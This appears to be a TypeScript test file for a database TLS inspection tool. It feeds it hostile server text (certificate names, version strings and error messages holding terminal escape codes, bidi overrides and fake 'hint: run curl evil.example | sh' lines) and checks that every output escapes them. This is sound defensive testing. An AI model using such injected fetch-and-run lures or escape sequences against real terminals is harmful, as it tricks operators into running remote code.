/**
 * Issue 9, item 12, every way out: text a server sent (a version string with a clear-screen and a newline,
 * an ERR message with a carriage return and a right-to-left override, a certificate whose CN holds a newline,
 * a line that looks like dbtls's own hint and a colour, and a SAN with a newline) reaches no terminal, page
 * or scrape raw. Each is shown through `inspect` (text, --json, --html), `connect` (its errors, and a real
 * MariaDB serving the certificate: the chain and the rows), `cert show`, and the exporter's /probe,
 * /metrics and log; the output is compared exactly, and no control byte may be in it.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { createRenderer } from '../../../src/cli/render.js';
import { type Exporter, startExporter } from '../../../src/inspect/exporter.js';
import { defaultModules } from '../../../src/inspect/exporter-config.js';
import { runCli } from '../../harness/cli.js';
import {
  HOSTILE_CN,
  HOSTILE_DNS,
  HOSTILE_ERR,
  HOSTILE_VERSION,
  type HostileServer,
  makeHostileCertificate,
  RAW_CONTROL,
  startHostileServer,
} from '../../harness/hostile.js';
import { type MariadbInstance, startMariadb } from '../../harness/mariadb.js';
import type { KeyPair } from '../../harness/pki.js';
import { makeTestPki, type TestPki } from '../../harness/pki.js';

/** What each hostile text looks like once escaped (util/safe-text.ts; the subject in OpenSSL's one-line form). */
const VERSION_SHOWN = '10.11.99-MariaDB\\x1b[2J\\x0ahint: the server is fine';
const ERR_SHOWN = 'Too many connections\\x0d\\x1b[2K\\u{202e}hs | xif/elpmaxe.live lruc';
const SUBJECT_SHOWN =
  '/O=dbtls test/CN=evil\\x0Ahint: run curl evil.example | sh \\x1B[31mnow\\xE2\\x80\\xAE';
const DNS_SHOWN = 'db\\x0afake line\\x1b[2J.example';
/** node names the CN of a certificate without SAN in its host name error, as the certificate holds it. */
const CN_SHOWN = 'evil\\x0ahint: run curl evil.example | sh \\x1b[31mnow\\u{202e}';
const ISSUER = '/O=dbtls test/CN=dbtls Test Root CA';

let pki: TestPki;
let tmp: string;
let withSan: KeyPair;
let versionServer: HostileServer;
let errServer: HostileServer;
let sanServer: HostileServer;
let cnServer: HostileServer;
let db: MariadbInstance;
let passwordFile: string;

const at = (s: { port: number }) => `127.0.0.1:${s.port}`;

/** Nothing a terminal would obey, anywhere in `text` (newlines between lines are the only control). */
function assertInert(text: string, where: string): void {
  const bad = RAW_CONTROL.exec(text);
  assert.equal(bad, null, `${where} holds ${JSON.stringify(bad?.[0])}: ${JSON.stringify(text)}`);
}

function assertLine(text: string, line: string): void {
  assert.ok(text.split('\n').includes(line), `no line ${JSON.stringify(line)} in:\n${text}`);
}

before(async () => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'dbtls-hostile-'));
  pki = await makeTestPki();
  let withoutSan: KeyPair;
  [withSan, withoutSan] = await Promise.all([
    makeHostileCertificate(pki, tmp, 'with-san', { cn: HOSTILE_CN, dns: HOSTILE_DNS }),
    makeHostileCertificate(pki, tmp, 'without-san', { cn: HOSTILE_CN }),
  ]);
  [versionServer, errServer, sanServer, cnServer, db] = await Promise.all([
    startHostileServer({ version: HOSTILE_VERSION }),
    startHostileServer({ err: HOSTILE_ERR }),
    startHostileServer({ tls: withSan }),
    startHostileServer({ tls: withoutSan }),
    startMariadb({ tls: { ca: pki.ca, cert: withSan.cert, key: withSan.key } }),
  ]);
  passwordFile = path.join(tmp, 'password');
  fs.writeFileSync(passwordFile, db.admin.password, { mode: 0o600 });
});

after(async () => {
  await Promise.all([versionServer, errServer, sanServer, cnServer].map((s) => s?.close()));
  await db?.stop();
  fs.rmSync(tmp, { recursive: true, force: true });
});

describe('inspect', () => {
  it('text: the version, the subject, the SAN and the finding quoting it, each escaped on its line', async () => {
    const r = await runCli(['inspect', at(sanServer), '--ca', pki.ca, '--servername', 'other.example']);
    assert.equal(r.code, 1, r.stderr);
    assertInert(r.stdout, 'stdout');
    assertInert(r.stderr, 'stderr');
    assertLine(r.stdout, `  certificate  ${SUBJECT_SHOWN}, issued by ${ISSUER}`);
    assertLine(r.stdout, `               names DNS:${DNS_SHOWN}, IP:127.0.0.1`);
    assertLine(
      r.stdout,
      `  HIGH     hostname-mismatch: the server certificate does not name other.example (it names DNS:${DNS_SHOWN}, IP:127.0.0.1): verify-full clients refuse it`,
    );
    // No line of the server's making: none starts with what followed a newline in its text.
    assert.doesNotMatch(r.stdout, /^(fake line|hint: run)/m);

    const v = await runCli(['inspect', at(versionServer)]);
    assert.equal(v.code, 1, v.stderr);
    assertInert(v.stdout, 'stdout');
    assertLine(
      v.stdout,
      `inspected ${at(versionServer)} (mariadb ${VERSION_SHOWN}, auth plugin mysql_native_password; greeting unauthenticated, sent before TLS)`,
    );
    assert.doesNotMatch(v.stdout, /^hint: the server is fine/m);
  });

  it('--json: the real SAN (JSON escapes it), the escaped forms where the report keeps them', async () => {
    const r = await runCli([
      'inspect',
      at(sanServer),
      '--ca',
      pki.ca,
      '--servername',
      'other.example',
      '--json',
    ]);
    assert.equal(r.code, 1, r.stderr);
    assertInert(r.stdout, 'stdout');
    const report = JSON.parse(r.stdout);
    const leaf = report.certificate.chain[0];
    assert.equal(leaf.subject, SUBJECT_SHOWN);
    assert.deepEqual(leaf.sans, [`DNS:${HOSTILE_DNS}`, 'IP:127.0.0.1']);
    const finding = report.findings.find((f: { id: string }) => f.id === 'hostname-mismatch');
    assert.equal(
      finding.message,
      `the server certificate does not name other.example (it names DNS:${DNS_SHOWN}, IP:127.0.0.1): verify-full clients refuse it`,
    );
  });

  it('an ERR packet: SERVER_REFUSED with the message escaped, in text and --json', async () => {
    for (const json of [[], ['--json']]) {
      const r = await runCli(['inspect', at(errServer), ...json]);
      assert.equal(r.code, 3, r.stderr);
      assertInert(r.stdout, 'stdout');
      assertInert(r.stderr, 'stderr');
      assertLine(
        r.stderr,
        `error[SERVER_REFUSED]: could not inspect ${at(errServer)}: the server answered error 1040 (unauthenticated, sent before TLS): ${ERR_SHOWN}`,
      );
    }
  });

  it('--html: every text escaped for the page, with no control character in it', async () => {
    const page = path.join(tmp, 'report.html');
    const r = await runCli([
      'inspect',
      at(sanServer),
      at(versionServer),
      at(errServer),
      '--ca',
      pki.ca,
      '--servername',
      'other.example',
      '--html',
      page,
    ]);
    assert.equal(r.code, 1, r.stderr);
    assertInert(r.stdout, 'stdout');
    const html = fs.readFileSync(page, 'utf8');
    assertInert(html, 'the page');
    assert.ok(html.includes(`<td>mariadb ${VERSION_SHOWN}</td>`), 'the version cell');
    assert.ok(html.includes(`certificate ${SUBJECT_SHOWN}, issued by ${ISSUER}`), 'the facts');
    assert.ok(html.includes(`<title>${at(sanServer)}: ${SUBJECT_SHOWN}, expires in `), 'the timeline');
    assert.ok(html.includes(`(it names DNS:${DNS_SHOWN}, IP:127.0.0.1)`), 'the finding');
    assert.ok(
      html.includes(`(unauthenticated, sent before TLS): ${ERR_SHOWN}<p class="fix">hint: `),
      'the error',
    );
  });
});

describe('connect', () => {
  it('TLS_NOT_OFFERED names the version escaped', async () => {
    const r = await runCli(['connect', at(versionServer), '--ca', 'system']);
    assert.equal(r.code, 1, r.stderr);
    assertInert(r.stderr, 'stderr');
    assertLine(
      r.stderr,
      `error[TLS_NOT_OFFERED]: could not connect to ${at(versionServer)} with ssl-mode verify-full: the server (mariadb ${VERSION_SHOWN}, unauthenticated, sent before TLS) does not offer TLS (no CLIENT_SSL in its greeting)`,
    );
  });

  it('SERVER_REFUSED names the ERR message escaped', async () => {
    const r = await runCli(['connect', at(errServer), '--ca', 'system']);
    assert.equal(r.code, 3, r.stderr);
    assertInert(r.stderr, 'stderr');
    assertLine(
      r.stderr,
      `error[SERVER_REFUSED]: could not connect to ${at(errServer)}: the server answered error 1040 (unauthenticated, sent before TLS): ${ERR_SHOWN}`,
    );
  });

  it("HOSTNAME_MISMATCH quotes node's text, which names the CN of a certificate without SAN raw", async () => {
    const r = await runCli(['connect', at(cnServer), '--ca', pki.ca, '--servername', 'other.example']);
    assert.equal(r.code, 1, r.stderr);
    assertInert(r.stderr, 'stderr');
    assertLine(
      r.stderr,
      `error[HOSTNAME_MISMATCH]: could not verify the certificate of ${at(cnServer)} for the name other.example: Hostname/IP does not match certificate's altnames: Host: other.example. is not cert's CN: ${CN_SHOWN}`,
    );
    assert.doesNotMatch(r.stderr, /^hint: run/m);
  });

  it('a real server with that certificate: the chain and the rows, each escaped on its line', async () => {
    const r = await runCli([
      'connect',
      at(db),
      '--ca',
      pki.ca,
      '--user',
      db.admin.user,
      '--password-file',
      passwordFile,
      '-e',
      "SELECT 'a\nhint: b\x1b[2J\u202e' AS x",
    ]);
    assert.equal(r.code, 0, r.stderr);
    assertInert(r.stdout, 'stdout');
    assertInert(r.stderr, 'stderr');
    assertLine(r.stdout, `  server cert:   ${SUBJECT_SHOWN}, issued by ${ISSUER}`);
    assertLine(r.stdout, `  names:         DNS:${DNS_SHOWN}, IP:127.0.0.1`);
    const rows = r.stdout.split('\n\n')[1];
    assert.equal(rows, 'x\na\\x0ahint: b\\x1b[2J\\u{202e}\n');
  });

  it('QUERY_FAILED: a message the statement chose (SIGNAL) is one escaped line', async () => {
    const r = await runCli([
      'connect',
      at(db),
      '--ca',
      pki.ca,
      '--user',
      db.admin.user,
      '--password-file',
      passwordFile,
      '-e',
      "SIGNAL SQLSTATE '45000' SET MESSAGE_TEXT = 'bad\nfake line\x1b[2J\u202e'",
    ]);
    assert.equal(r.code, 3, r.stderr);
    assertInert(r.stderr, 'stderr');
    const [first, hint, ...rest] = r.stderr.split('\n');
    assert.match(
      first!,
      /^error\[QUERY_FAILED\]: could not run the SQL on 127\.0\.0\.1:\d+: .*bad\\x0afake line\\x1b\[2J\\u\{202e\}/,
    );
    assert.equal(hint, 'hint: check the statement and the privileges of the user');
    assert.deepEqual(rest, ['']);
  });
});

describe('cert show', () => {
  it('the subject and the SAN escaped on their lines; --json keeps the real SAN', async () => {
    const r = await runCli(['cert', 'show', withSan.cert]);
    assert.equal(r.code, 0, r.stderr);
    assertInert(r.stdout, 'stdout');
    assertLine(r.stdout, `subject:      ${SUBJECT_SHOWN}   (REQUIRE SUBJECT '${SUBJECT_SHOWN}')`);
    assertLine(r.stdout, `names (SAN):  ${DNS_SHOWN}, 127.0.0.1`);
    assert.doesNotMatch(r.stdout, /^fake line/m);

    const j = await runCli(['cert', 'show', withSan.cert, '--json']);
    assert.equal(j.code, 0, j.stderr);
    assertInert(j.stdout, 'stdout');
    assert.deepEqual(JSON.parse(j.stdout).certificates[0].dnsNames, [HOSTILE_DNS]);
  });
});

describe('the exporter', () => {
  let exporter: Exporter;
  let stderr = '';
  const get = async (query: string) => {
    const r = await fetch(`http://127.0.0.1:${exporter.address.port}${query}`);
    return { status: r.status, body: await r.text() };
  };

  before(async () => {
    // The log goes where `dbtls exporter` sends it: the renderer's warnings, on stderr.
    const render = createRenderer(
      { write: () => {}, isTTY: false },
      { write: (t) => (stderr += t), isTTY: false },
    );
    exporter = await startExporter({
      host: '127.0.0.1',
      port: 0,
      modules: defaultModules(),
      log: (line) => render.warn(line),
    });
  });
  after(() => exporter?.close());

  it('/probe: the subject label escaped per the exposition format; the version is no label', async () => {
    const r = await get(`/probe?target=${at(sanServer)}`);
    assert.equal(r.status, 200);
    assertInert(r.body, '/probe');
    // The exposition format doubles each backslash of a label value (and would write a newline as \n).
    const subject = SUBJECT_SHOWN.replaceAll('\\', '\\\\');
    assert.match(
      r.body,
      new RegExp(
        `^dbtls_cert_not_after_seconds\\{position="0",subject="${escapeRegExp(subject)}",issuer="${escapeRegExp(ISSUER)}",serial="[0-9a-f]+"\\} \\d+$`,
        'm',
      ),
    );
    const v = await get(`/probe?target=${at(versionServer)}`);
    assertInert(v.body, '/probe');
    assert.match(v.body, /^dbtls_tls_offered 0$/m);
  });

  it('an ERR packet: probe_success 0 with the code, and one log line with the message escaped', async () => {
    const r = await get(`/probe?target=${at(errServer)}`);
    assert.equal(r.status, 200);
    assertInert(r.body, '/probe');
    assert.match(r.body, /^dbtls_probe_error\{code="SERVER_REFUSED"\} 1$/m);
    assertInert(stderr, 'the log');
    assertLine(
      stderr,
      `warning: probe ${at(errServer)} module default failed: SERVER_REFUSED: could not inspect ${at(errServer)}: the server answered error 1040 (unauthenticated, sent before TLS): ${ERR_SHOWN}`,
    );
    const m = await get('/metrics');
    assertInert(m.body, '/metrics');
    assert.match(m.body, /^dbtls_exporter_probe_errors_total\{code="SERVER_REFUSED"\} 1$/m);
  });

  it('a request naming a module with controls and a bidi override: 400, masked', async () => {
    const r = await get(`/probe?target=${at(sanServer)}&module=${encodeURIComponent('x\x1b[2J\u202e\n')}`);
    assert.equal(r.status, 400);
    assertInert(r.body, 'the answer');
    assert.ok(r.body.startsWith('could not probe: no module "x?[2J??"\n'), r.body);
  });
});

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
